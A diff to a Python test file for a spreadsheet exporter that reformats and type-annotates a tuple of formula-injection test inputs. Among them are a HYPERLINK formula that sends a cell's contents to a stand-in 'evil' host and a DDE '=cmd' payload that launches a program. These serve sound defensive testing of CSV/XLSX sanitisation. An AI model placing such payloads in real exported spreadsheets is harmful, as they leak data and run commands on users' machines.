@@ -18,7 +18,16 @@ from flashmeet.core.spreadsheets.reader import open_table
 from flashmeet.core.spreadsheets.writer import csv_text, xlsx_bytes
 from tests.core.test_spreadsheets import begins_with, is_phone, phones, rows, texts
 
-HOSTILE = ("=1+1", '=HYPERLINK("http://evil/?"&A1;"x")', "+1", "-1", "@SUM(1)", "\t=1", "{=1+1}", "=cmd|'/c calc'!A1")
+HOSTILE: tuple[str, ...] = (
+    "=1+1",
+    '=HYPERLINK("http://evil/?"&A1;"x")',
+    "+1",
+    "-1",
+    "@SUM(1)",
+    "\t=1",
+    "{=1+1}",
+    "=cmd|'/c calc'!A1",
+)
 HOSTILE += ("http://example.org", "mailto:a@example.org", "007", "1e5", "12/06/2012", "_x0041_", "+33612345678")
 
 
@@ -58,7 +67,7 @@ def test_no_cell_is_a_formula_a_link_or_anything_that_begins_as_one(table: list[
 
 
 def test_texts_stay_texts_and_whole_numbers_are_numbers() -> None:
-    table = [["Key", "Phone", "Year"], ["007", "+33612345678", 2012]]
+    table: list[list[object]] = [["Key", "Phone", "Year"], ["007", "+33612345678", 2012]]
     sheet = zipfile.ZipFile(io.BytesIO(xlsx_bytes(table, name="Members"))).read("xl/worksheets/sheet1.xml").decode()
     assert "<t>007</t>" in sheet and "<t>+33612345678</t>" in sheet and "<v>2012</v>" in sheet
     assert [cells for _, cells in open_table(xlsx_bytes(table, name="Members")).rows][1] == [
